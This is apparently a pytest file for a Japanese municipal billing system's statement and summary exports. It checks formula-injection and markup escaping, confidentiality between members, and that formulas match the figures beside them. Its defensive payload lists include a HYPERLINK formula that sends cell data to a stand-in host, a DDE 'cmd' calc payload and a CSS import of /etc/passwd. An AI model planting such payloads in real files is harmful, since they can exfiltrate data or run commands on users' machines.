"""The files of a run: no formula from text, nobody else's figures, and formulas that compute what is written."""

import io
import random
import re
import shutil
import zipfile
from dataclasses import replace

import openpyxl
import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from billing.apportionment.case import CaseRefused
from billing.statements.exports import (
    TRUNCATION_NOTE,
    RunWorkbooks,
    statement_file_name,
    statement_html,
    statement_pdf,
    statement_pdfs,
    summary_file_name,
    summary_xlsx,
)
from billing.statements.rules import statement_view, summary_view
from tenants.errors import Invalid
from tests.billing.apportionment.random_cases import random_case
from tests.billing.statements.recalculating import cells, recalculated
from tests.billing.statements.sample_run import LONG_NAME, META, codes, run_of, sample_case

STARTS = ["=", "+", "-", "@", "\t=", "\n=", "＝", "＋", "－", "＠", " =", "'=", '"=', "%=", ";="]
BODIES = ["1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.invalid/?"&A1,"押す")', "cmd|' /C calc'!A0"]
PAYLOADS = [start + body for start in STARTS for body in BODIES]
MARKS = ("<b>太</b>", "{{ 7*7 }}", "<img src=http://evil.invalid/x>", "<style>@import url(file:///etc/passwd)</style>")
TOTAL = {"stage": "total", "unit_yen": 1, "remainder": "largest_remainder"}


def statement_xlsx(view, meta, case, result, *, published=False):
    return RunWorkbooks(case, result, published=published).xlsx(view, meta)


def sheets(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def formulas(data):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def words_of(pdf):
    return "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages)


def poisoned(payload):
    """The sample with the payload in every text a person can write."""
    case = sample_case(members=4, costs=5)
    case["title"] = payload
    for entry in (*case["members"], *case["keys"], *case["costs"], *case["grants"]):
        entry["name"] = payload
    for basis in case["bases"]:
        basis["name"] = basis["unit"] = basis["source"] = payload
    texts = (
        "program_title",
        "stage_label",
        "document_number",
        "prefecture_name",
        "approved_by",
        "contact",
        "sample_note",
    )
    return case, replace(META, **dict.fromkeys(texts, payload))


@pytest.fixture(scope="module")
def sample():
    return run_of(sample_case())


class TestFormulaInjection:
    def test_no_payload_becomes_a_formula_in_any_export(self):
        assert len(PAYLOADS) >= 60
        clean, meta = poisoned("町")
        case, result = run_of(clean)
        wanted = formulas(statement_xlsx(statement_view(case, result, codes(4)[0]), meta, case, result))
        valued = formulas(statement_xlsx(statement_view(case, result, codes(4)[0]), meta, {}, {}))
        wanted_summary = formulas(summary_xlsx(summary_view(case, result), meta))
        assert wanted
        # The engine refuses tabs and line feeds in names; they are put in behind it.
        poison, template = poisoned("PAYLOAD")
        documents = run_of(poison)
        for payload in PAYLOADS:
            case, result = (replaced(each, payload) for each in documents)
            bad_meta = replace(template, **{k: payload for k, v in vars_of(template).items() if v == "PAYLOAD"})
            statement = statement_xlsx(statement_view(case, result, codes(4)[0]), bad_meta, case, result)
            summary = summary_xlsx(summary_view(case, result), bad_meta)
            # A case with control characters is refused when it is read again: its workbook then holds values.
            assert formulas(statement) == (valued if re.search(r"[\t\n]", payload) else wanted), payload
            assert formulas(summary) == wanted_summary, payload
            assert not [name for name in sheets(statement) | sheets(summary) if "external" in name.lower()]

    @pytest.mark.parametrize("mark", MARKS)
    def test_marks_are_printed_as_text(self, mark):
        case, result = (replaced(each, mark) for each in run_of(poisoned("PAYLOAD")[0]))
        html = statement_html(statement_view(case, result, codes(4)[0]), META)
        assert "<" not in mark or mark not in html
        assert mark.split("<")[-1][:5] in words_of(statement_pdf(statement_view(case, result, codes(4)[0]), META))


def vars_of(meta):
    return {name: getattr(meta, name) for name in meta.__dataclass_fields__}


def replaced(value, payload):
    if isinstance(value, dict):
        return {key: replaced(each, payload) for key, each in value.items()}
    if isinstance(value, list):
        return [replaced(each, payload) for each in value]
    return payload if value == "PAYLOAD" else value


class TestOthersStayOut:
    @pytest.mark.parametrize("stage", ["cost", "total"])
    def test_no_other_members_name_or_value_is_in_a_members_files(self, stage):
        fields = {"rounding": TOTAL} if stage == "total" else {}
        case = sample_case(**fields)
        other = codes(41)[7]
        case["members"][7]["name"] = "CANARY町"
        for basis in case["bases"]:
            basis["values"][other] = "918273645.75"
        case["issued_yen"][other] = 777_888_999
        case["costs"].append({"id": "z", "name": "CANARY経費", "amount_yen": 555_444_333, "charge": {"member": other}})
        case, result = run_of(case)
        figures = next(each for each in result["members"] if each["code"] == other)
        secrets = ["CANARY", other, "918273645", "918,273,645", "777888999", "777,888,999", "555444333", "555,444,333"]
        secrets += [str(figures["gross_yen"]), f"{figures['gross_yen']:,}", str(figures["invoice_yen"])]
        for code in (codes(41)[0], codes(41)[20], codes(41)[-1]):
            view = statement_view(case, result, code)
            everything = "\n".join(sheets(statement_xlsx(view, META, case, result)).values())
            everything += statement_html(view, META) + words_of(statement_pdf(view, META))
            assert not [secret for secret in secrets if secret in everything]
            assert view.member_name in everything


class TestStatementFiles:
    def test_paper_says_what_a_finance_officer_came_for(self, sample):
        view = statement_view(*sample, codes(41)[-1], last_year_yen=23_000_000)
        text = words_of(statement_pdf(view, META))
        for word in (
            LONG_NAME, "負担金算定書", "令和6年度(2024)", "通知(第2回)", "23,467,383", "△1,529,314", "令和6年11月29日",
            "デジタル田園都市国家構想交付金", "均等割3割・人口割7割", "令和2年国勢調査", "令和2年10月1日", "12,700,080",
            "168,568,391", "最大剰余法", "一致", "1 / 2 頁", "2 / 2 頁", META.input_sha256[:16], "このデータは見本です",
            "前年度の請求額", "9/12月",
        ):  # fmt: skip
            assert word in text, word
        assert "不一致" not in text
        assert pypdf.PdfReader(io.BytesIO(statement_pdf(view, META))).metadata.title.endswith(LONG_NAME)

    def test_thirty_costs_and_none_fit(self):
        case, result = run_of(sample_case(costs=30))
        assert (
            len(pypdf.PdfReader(io.BytesIO(statement_pdf(statement_view(case, result, codes(41)[0]), META))).pages) < 6
        )
        case = sample_case(members=2, costs=0)
        case, result = run_of(case)
        view = statement_view(case, result, codes(2)[1])
        assert view.lines == ()
        assert "貴団体が負担する経費はありません" in words_of(statement_pdf(view, META))
        assert statement_xlsx(view, META, case, result)

    def test_a_wrong_result_is_called_wrong(self, sample):
        view = statement_view(*sample, codes(41)[3])
        wrong = replace(
            view, gross_yen=view.gross_yen + 1, checks=(replace(view.checks[0], right_yen=1), *view.checks[1:])
        )
        assert "不一致" in words_of(statement_pdf(wrong, META))
        book = openpyxl.load_workbook(io.BytesIO(statement_xlsx(wrong, META, *sample)), data_only=True)
        assert "不一致" in [cell.value for row in book.worksheets[0].iter_rows() for cell in row]

    def test_a_batch_gives_the_same_bytes_as_one_by_one(self, sample):
        views = [statement_view(*sample, code) for code in codes(41)[:3]]
        assert statement_pdfs([(view, META) for view in views]) == [statement_pdf(view, META) for view in views]
        assert statement_xlsx(views[0], META, *sample) == statement_xlsx(views[0], META, *sample)

    def test_names_are_ascii(self):
        assert statement_file_name(2024, 12, 1, "283011", "pdf") == "r6-p12-n1-283011-statement.pdf"
        assert summary_file_name(2024, 12, 1) == "r6-p12-n1-summary.xlsx"
        with pytest.raises(Invalid):
            statement_file_name(2024, 12, 1, "神戸市", "pdf")


class TestSummaryFile:
    def test_holds_every_member_the_prefecture_and_the_sum(self, sample):
        view = summary_view(*sample)
        book = openpyxl.load_workbook(io.BytesIO(summary_xlsx(view, META)), data_only=True)
        names = [row[1].value for row in book["総括表"].iter_rows(min_row=8)]
        assert names[:41] == [row.name for row in view.rows]
        assert names[41:44] == ["県", "未配分", "合計"]
        verdicts = [
            cell.value for row in book["総括表"].iter_rows() for cell in row if cell.value in ("一致", "不一致")
        ]
        assert len(verdicts) == 43 + 7 + 1 + 1
        assert set(verdicts) == {"一致"}

    def test_thousands_are_cut_and_say_so(self, sample):
        view = summary_view(*sample)
        sheet = openpyxl.load_workbook(io.BytesIO(summary_xlsx(view, META)))["総括表(千円)"]
        first = next(row for row in sheet.iter_rows(min_row=8) if row[0].value == view.rows[0].code)
        assert first[2].value == view.rows[0].shares_yen[0] // 1000
        refund = next(cell.value for cell in reversed(first) if cell.value is not None)
        assert refund == view.rows[0].difference_yen // 1000
        assert TRUNCATION_NOTE in str(sheet["A4"].value)

    def test_a_refund_is_cut_towards_zero(self):
        case, result = run_of(sample_case(issued_yen={codes(41)[1]: 10**9 + 1}))
        view = summary_view(case, result)
        sheet = openpyxl.load_workbook(io.BytesIO(summary_xlsx(view, META)))["総括表(千円)"]
        row = next(row for row in sheet.iter_rows(min_row=8) if row[0].value == codes(41)[1])
        assert row[-1].value == -(-view.rows[1].difference_yen // 1000)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="needs LibreOffice to compute the formulas afresh")
class TestLiveFormulas:
    def test_of_the_summary_compute_what_is_written_beside_them(self, tmp_path):
        files = {}
        for number, costs, fields in ((0, 5, {}), (1, 30, {}), (2, 4, {"rounding": TOTAL})):
            case, result = run_of(sample_case(costs=costs, **fields))
            files[f"summary{number}.xlsx"] = summary_xlsx(summary_view(case, result), META)
        rng = random.Random(7)  # noqa: S311  (the same cases every time)
        while len(files) < 15:
            try:
                case, result = run_of(random_case(rng))
            except CaseRefused:
                continue
            files[f"summary-r{len(files)}.xlsx"] = summary_xlsx(summary_view(case, result), META)
        for name, again in recalculated(files, tmp_path).items():
            for address, value in cells(files[name]).items():
                assert again.get(address) == value, (name, address)
            assert "一致" in again.values()
            assert "不一致" not in again.values(), name


class TestEveryCase:
    @settings(max_examples=25, deadline=None)
    @given(st.integers(0, 2**32).map(random.Random))
    def test_can_be_exported(self, rng):
        try:
            case, result = run_of(random_case(rng))
        except CaseRefused:
            return
        view = statement_view(case, result, case["members"][0]["code"])
        assert statement_xlsx(view, META, case, result)
        assert "不一致" not in statement_html(view, META)
        summary = cells(summary_xlsx(summary_view(case, result), META))
        assert "不一致" not in summary.values()
